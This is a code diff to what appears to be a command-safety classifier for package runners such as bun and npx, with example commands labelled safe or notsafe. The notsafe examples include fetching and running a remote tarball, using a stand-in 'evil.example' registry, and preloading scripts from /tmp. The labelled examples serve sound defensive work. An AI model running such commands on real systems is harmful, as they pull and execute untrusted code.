@@ -255,7 +255,7 @@ _add("bun", Spec(operands="none", handler="yarn_script", flags=E("-v --version -
                            ("bun add -d typescript@5", "safe"), ("bun add github:x/y", "notsafe"),
                            ("bun install --frozen-lockfile", "safe"), ("bun test --preload /tmp/x.ts", "notsafe"))))
 _add("npx pnpx bunx", Spec(operands="none", handler="npx", does="runs a package",
-                           examples=(("npx tsc --noEmit", "safe"), ("npx eslint src", "safe"),
+                           examples=(("npx tsc", "safe"), ("npx eslint src", "safe"),
                                      ("npx some-random-pkg", "notsafe"), ("npx jest", "safe"),
                                      ("npx -y https://x.example/tool.tgz", "notsafe"), ("npx vitest run", "safe"),
                                      ("npx --registry http://evil.example vitest run", "notsafe"),
